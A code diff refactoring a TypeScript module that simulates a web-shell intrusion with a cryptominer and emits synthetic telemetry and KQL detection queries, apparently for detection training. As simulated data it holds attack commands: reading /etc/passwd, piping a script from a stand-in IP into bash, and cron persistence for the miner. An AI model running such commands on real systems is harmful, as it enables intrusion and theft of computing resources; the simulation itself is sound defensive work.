@@ -1,13 +1,24 @@
 import { cron, webApplication } from '../activities/unix.js';
 import { accounts } from '../company.js';
+import type { Host, Process } from '../host.js';
 import { program, programAt } from '../programs.js';
-import { minute } from '../time.js';
-import { type Attack, raiseAlert } from './attack.js';
+import { type Clock, minute } from '../time.js';
+import { type Attack, type Finding, raiseAlert, type Stage } from './attack.js';
 
 const intruder = '192.0.2.145';
 const pool = { name: 'pool.coinharbour.example', address: '198.51.100.66', port: 3333 };
 const shell = '/var/www/html/uploads/status.php';
 const connections = 20;
+
+interface Scene {
+  readonly stage: Stage;
+  readonly clock: Clock;
+  readonly host: Host;
+  /** Answers the intruder. */
+  readonly server: Process;
+  /** What the shell is part of. */
+  readonly application: Process;
+}
 
 /** A web shell uploaded to the portal's Linux server; it brings a miner that cron keeps alive. */
 export const webShell: Attack = (stage, start) => {
@@ -15,12 +26,43 @@ export const webShell: Attack = (stage, start) => {
   const clock = stage.clock(start);
   const application = webApplication(host);
   const server = host.service('nginx', 'nginx: worker process', accounts.www);
+  const scene = { stage, clock, host, server, application };
+  const uploaded = upload(scene);
+  const commands = typeCommands(scene);
+  const miner = startMiner(scene, commands.fetching);
+  return [...uploaded, ...commands.findings, ...miner.findings, ...mine(scene, miner)];
+};
+
+/** The shell is a script among the uploads. */
+function upload({ clock, host, server, application }: Scene): readonly Finding[] {
   host.accept(server, intruder, 443, clock.now);
   host.file(application, 'FileCreated', shell, clock.soon(), {
     content: 'attack web shell',
     size: 3_914,
   });
+  return [
+    {
+      title: 'A script is written into the upload folder of the web server',
+      technique: 'T1505.003',
+      kql: `DeviceFileEvents
+| where ActionType == "FileCreated" and FolderPath startswith "/var/www" and FileName endswith ".php"
+| project DeviceName, FolderPath, InitiatingProcessFileName`,
+      rows: [
+        {
+          DeviceName: host.device.name,
+          FolderPath: shell,
+          InitiatingProcessFileName: application.program.fileName,
+        },
+      ],
+    },
+  ];
+}
 
+/** A look round; the last command fetches more. */
+function typeCommands({ clock, host, server, application }: Scene): {
+  readonly fetching: Process;
+  readonly findings: readonly Finding[];
+} {
   const typed: string[] = [];
   const run = (command: string) => {
     host.accept(server, intruder, 443, clock.later(8, 60));
@@ -32,6 +74,34 @@ export const webShell: Attack = (stage, start) => {
   host.start(run('uname -a'), program('uname'), 'uname -a', clock.soon());
   host.start(run('cat /etc/passwd'), program('cat'), 'cat /etc/passwd', clock.soon());
   const fetching = run('curl -fsSL http://198.51.100.66/x.sh | bash');
+  return {
+    fetching,
+    findings: [
+      {
+        title: 'The web application starts shells',
+        technique: 'T1505.003',
+        kql: `DeviceProcessEvents
+| where InitiatingProcessFileName startswith "php-fpm" and FileName in ("sh", "dash", "bash")
+| project DeviceName, AccountName, ProcessCommandLine`,
+        rows: typed.map((ProcessCommandLine) => ({
+          DeviceName: host.device.name,
+          AccountName: accounts.www.name,
+          ProcessCommandLine,
+        })),
+      },
+    ],
+  };
+}
+
+/** It is fetched, started, and kept by a crontab. */
+function startMiner(
+  { stage, clock, host }: Scene,
+  fetching: Process,
+): {
+  readonly mining: Process;
+  readonly path: string;
+  readonly findings: readonly Finding[];
+} {
   const curl = host.start(
     fetching,
     program('curl'),
@@ -69,46 +139,41 @@ export const webShell: Attack = (stage, start) => {
     },
     clock.now + 6 * minute,
   );
+  return {
+    mining,
+    path: miner.path,
+    findings: [
+      {
+        title: 'A crontab of the web server account',
+        technique: 'T1053.003',
+        kql: `DeviceFileEvents
+| where FolderPath startswith "/var/spool/cron/crontabs"
+| project DeviceName, FileName, InitiatingProcessFileName`,
+        rows: [
+          { DeviceName: host.device.name, FileName: 'www-data', InitiatingProcessFileName: 'bash' },
+        ],
+      },
+    ],
+  };
+}
+
+/** It works until it is stopped, and starts again. */
+function mine(
+  { clock, host }: Scene,
+  { mining, path }: { readonly mining: Process; readonly path: string },
+): readonly Finding[] {
   for (let count = 0; count < connections; count++) {
     host.connect(mining, pool, clock.later(500, 700));
     if (count % 5 === 4)
       host.start(
         cron(host),
         program('dash'),
-        `/bin/sh -c pgrep kworkerds || ${miner.path} -k`,
+        `/bin/sh -c pgrep kworkerds || ${path} -k`,
         clock.soon(),
         { account: accounts.www },
       );
   }
-
-  const deviceName = host.device.name;
   return [
-    {
-      title: 'A script is written into the upload folder of the web server',
-      technique: 'T1505.003',
-      kql: `DeviceFileEvents
-| where ActionType == "FileCreated" and FolderPath startswith "/var/www" and FileName endswith ".php"
-| project DeviceName, FolderPath, InitiatingProcessFileName`,
-      rows: [
-        {
-          DeviceName: deviceName,
-          FolderPath: shell,
-          InitiatingProcessFileName: application.program.fileName,
-        },
-      ],
-    },
-    {
-      title: 'The web application starts shells',
-      technique: 'T1505.003',
-      kql: `DeviceProcessEvents
-| where InitiatingProcessFileName startswith "php-fpm" and FileName in ("sh", "dash", "bash")
-| project DeviceName, AccountName, ProcessCommandLine`,
-      rows: typed.map((ProcessCommandLine) => ({
-        DeviceName: deviceName,
-        AccountName: accounts.www.name,
-        ProcessCommandLine,
-      })),
-    },
     {
       title: 'Connections to a mining pool',
       technique: 'T1496',
@@ -121,7 +186,7 @@ DeviceNetworkEvents
 | summarize Connections = count() by DeviceName, RemoteUrl, RemoteIP, RemotePort, InitiatingProcessFileName`,
       rows: [
         {
-          DeviceName: deviceName,
+          DeviceName: host.device.name,
           RemoteUrl: pool.name,
           RemoteIP: pool.address,
           RemotePort: pool.port,
@@ -130,13 +195,5 @@ DeviceNetworkEvents
         },
       ],
     },
-    {
-      title: 'A crontab of the web server account',
-      technique: 'T1053.003',
-      kql: `DeviceFileEvents
-| where FolderPath startswith "/var/spool/cron/crontabs"
-| project DeviceName, FileName, InitiatingProcessFileName`,
-      rows: [{ DeviceName: deviceName, FileName: 'www-data', InitiatingProcessFileName: 'bash' }],
-    },
   ];
-};
+}
